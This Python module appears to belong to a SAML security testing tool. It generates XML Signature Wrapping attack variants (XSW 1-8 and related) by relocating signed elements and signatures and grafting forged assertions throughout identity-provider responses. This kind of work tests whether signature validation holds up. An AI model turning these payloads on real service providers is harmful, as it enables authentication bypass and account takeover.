"""Signature wrapping: what was signed is still there, and something else stands where it is read.

XSW 1-8 and their relatives (Somorovsky et al., USENIX Security 2012; CVE-2020-5390, CVE-2025-47949, CVE-2026-25922).
"""

from collections.abc import Callable, Iterator
from copy import deepcopy
from itertools import product

from lxml import etree

from .. import idp
from .base import SIGNATURE, Attack, Base, container, signed, xml

Place = Callable[[etree._Element, etree._Element], None]


def _inside(*tags: str) -> Place:
    def place(evil: etree._Element, original: etree._Element) -> None:
        holder = evil
        for tag in tags:
            holder = etree.SubElement(holder, tag)
        holder.append(original)

    return place


def _in_signature(*path: str) -> Place:
    def place(evil: etree._Element, original: etree._Element) -> None:
        holder = evil.find(SIGNATURE)
        if holder is None:
            holder = etree.SubElement(evil, SIGNATURE)
        for name in path:
            found = holder.find(f"{{{idp.DS}}}{name}")
            holder = etree.SubElement(holder, f"{{{idp.DS}}}{name}") if found is None else found
        holder.append(original)

    return place


_S, _P = f"{{{idp.SAML}}}", f"{{{idp.SAMLP}}}"
PLACES: dict[str, Place] = {
    "first child": lambda evil, original: evil.insert(0, original),
    "last child": lambda evil, original: evil.append(original),
    "in Extensions": _inside(f"{_P}Extensions"),
    "in StatusDetail": _inside(f"{_P}Status", f"{_P}StatusDetail"),
    "in Advice": _inside(f"{_S}Advice"),
    "in Conditions": _inside(f"{_S}Conditions"),
    "in an AttributeValue": _inside(f"{_S}AttributeStatement", f"{_S}Attribute", f"{_S}AttributeValue"),
    "in SubjectConfirmationData": _inside(f"{_S}Subject", f"{_S}SubjectConfirmation", f"{_S}SubjectConfirmationData"),
    "in another namespace": _inside("{urn:example}Box"),
    "in no namespace": _inside("Box"),
    "in Signature": _in_signature(),
    "in Object": _in_signature("Object"),
    "in Manifest": _in_signature("Object", "Manifest"),
    "in SignatureProperties": _in_signature("Object", "SignatureProperties", "SignatureProperty"),
    "in KeyInfo": _in_signature("KeyInfo"),
    "in X509Data": _in_signature("KeyInfo", "X509Data"),
    "in SignedInfo": _in_signature("SignedInfo"),
    "in Reference": _in_signature("SignedInfo", "Reference"),
    "in SignatureValue": _in_signature("SignatureValue"),
}


def wrapping(base: Base) -> Iterator[Attack]:
    """Which element, where the original goes, what becomes of its signature, and under which ID."""
    for index, _ in enumerate(signed(base.document)):
        for (place, put), moved, identifier in product(PLACES.items(), ("kept", "moved", "copied"), ("same", "new")):
            root = base.copy()
            original = signed(root)[index]
            evil = base.evil(original, original.get("ID", "_x") if identifier == "same" else "_evil")
            if original is root:
                root = evil
            else:
                idp.swap(original, evil)
            signature = original.find(SIGNATURE)
            assert signature is not None
            if moved == "copied":
                evil.insert(1, deepcopy(signature))
            elif moved == "moved":
                evil.insert(1, signature)
            put(evil, original)
            yield f"{etree.QName(original).localname} {place}, signature {moved}, {identifier} ID", xml(root)


def named(base: Base) -> Iterator[Attack]:
    """Evil beside or around the original, as the catalogue numbers them; before it and after it."""
    for index, before in product(range(len(signed(base.document))), (True, False)):
        root = base.copy()
        original = signed(root)[index]
        name = etree.QName(original).localname
        if original is root:
            evil = base.evil_response()
            evil.insert(1 if before else len(evil), root)
            yield f"XSW 1/2: evil Response around the original, {'before' if before else 'after'} it", xml(evil)
            continue
        evil = base.evil(original, "_evil")
        (original.addprevious if before else original.addnext)(evil)
        yield f"XSW 3: evil {name} {'before' if before else 'after'} it", xml(root)
        signature = original.find(SIGNATURE)
        assert signature is not None
        evil.insert(1, signature)
        yield f"XSW 5: the Signature in evil {name} {'before' if before else 'after'} it", xml(root)
        signature.append(original)
        yield f"XSW 6: the original in the Signature of evil {name}", xml(root)
    for tag in (f"{_P}Extensions", f"{{{idp.DS}}}Object"):
        for before, stripped in product((True, False), repeat=2):
            root = base.copy()
            holder = etree.Element(tag)
            holder.append(base.evil_assertion())
            root.insert(1 if before else len(root), holder)
            for signature in container(root).findall(SIGNATURE) if stripped else ():
                container(root).remove(signature)
            where = f"{'first' if before else 'last'}, {'unsigned' if stripped else 'signed'} original"
            yield f"XSW 7/8: an assertion in {etree.QName(tag).localname}, {where}", xml(root)


def anywhere(base: Base) -> Iterator[Attack]:
    """A second assertion, plain or encrypted, at either end of every element of the message."""
    evils = {
        "an assertion": base.evil_assertion(),
        "an assertion of the same ID": base.evil_assertion(container(base.document).get("ID", "_evil")),
        "an EncryptedAssertion": base.encrypted(xml(base.evil_assertion())),
        "an assertion of SAML 1.1": etree.fromstring('<Assertion xmlns="urn:oasis:names:tc:SAML:1.0:assertion"/>'),
    }
    yield from _grafted(base, evils)


def fragments(base: Base) -> Iterator[Attack]:
    """Parts of an assertion, where nobody should look for them."""
    evil = base.evil_assertion()
    names = ("Subject", "NameID", "AttributeStatement")
    yield from _grafted(base, {name: next(evil.iter(f"{_S}{name}")) for name in names})


def _grafted(base: Base, grafts: dict[str, etree._Element]) -> Iterator[Attack]:
    for number, element in enumerate(base.document.iter()):
        for (name, graft), first in product(grafts.items(), (True, False)):
            root = base.copy()
            target = next(item for position, item in enumerate(root.iter()) if position == number)
            target.insert(0 if first else len(target), deepcopy(graft))
            where = f"{'first' if first else 'last'} in {etree.QName(element).localname} ({number})"
            yield f"{name} {where}", xml(root)
